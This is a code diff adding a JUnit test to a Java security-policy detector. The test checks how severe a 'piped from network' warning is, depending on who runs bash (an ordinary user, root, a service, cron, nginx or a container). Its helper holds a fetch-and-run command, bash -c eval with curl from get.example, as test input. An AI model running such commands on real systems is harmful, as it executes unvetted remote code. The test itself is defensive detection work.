@@ -6,7 +6,9 @@ import static org.assertj.core.api.Assertions.assertThat;
 import io.totem.policy.facts.Behaviour;
 import io.totem.policy.facts.Relations;
 import io.totem.policy.port.Severity;
+import io.totem.policy.testing.SampleBuilder;
 import io.totem.policy.testing.Scene;
+import java.util.List;
 import java.util.Optional;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -55,6 +57,31 @@ class DecodedCodeRuleTest {
                         .warning(WarningCode.DECODED_CODE))
                 .hasValueSatisfying(
                         warning -> assertThat(warning.why().en()).contains("runs what base64 decodes for it"));
+    }
+
+    /** With nobody but a person behind it: {@code curl … | bash} is how programs are installed. */
+    @Test
+    void what_a_logged_in_person_pipes_into_their_own_shell_is_a_caution_and_elsewhere_it_is_danger() {
+        assertThat(piped(program("/usr/bin/bash"))).contains(Severity.CAUTION);
+        for (SampleBuilder other : List.of(
+                program("/usr/bin/bash").root(),
+                program("/usr/bin/bash").uid(33),
+                program("/usr/bin/bash").uid(0).realUid(1000),
+                program("/usr/bin/bash").cgroup("/system.slice/shop.service"),
+                program("/usr/bin/bash").cgroup("/system.slice/cron.service"),
+                program("/usr/bin/bash").cgroup("/user.slice/user-1000.slice/user@1000.service/app.slice/x.service"),
+                program("/usr/bin/bash").container("c".repeat(64)))) {
+            assertThat(piped(other)).contains(Severity.DANGER);
+        }
+        assertThat(piped(program("/usr/sbin/cron").root(), program("/usr/bin/bash")))
+                .contains(Severity.DANGER);
+        assertThat(piped(program("/usr/sbin/nginx").uid(33), program("/usr/bin/bash")))
+                .contains(Severity.DANGER);
+    }
+
+    private static Optional<Severity> piped(SampleBuilder... line) {
+        line[line.length - 1].commandLine("bash", "-c", "eval \"$(curl -fsS https://get.example/x)\"");
+        return Scene.of(line).warning(WarningCode.PIPED_FROM_NETWORK).map(Warning::severity);
     }
 
     @Test
